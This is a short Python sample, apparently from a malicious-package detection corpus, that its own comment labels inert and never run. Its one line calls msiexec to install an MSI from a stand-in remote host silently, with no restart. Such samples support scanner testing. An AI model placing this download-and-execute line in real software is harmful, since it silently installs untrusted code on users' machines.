# pkgguard corpus 365 (download-execute), modelled on [empirical]; inert, never run.
import subprocess

subprocess.Popen(["msiexec", "/i", "https://cdn.example/helper.msi", "/qn", "/norestart"])
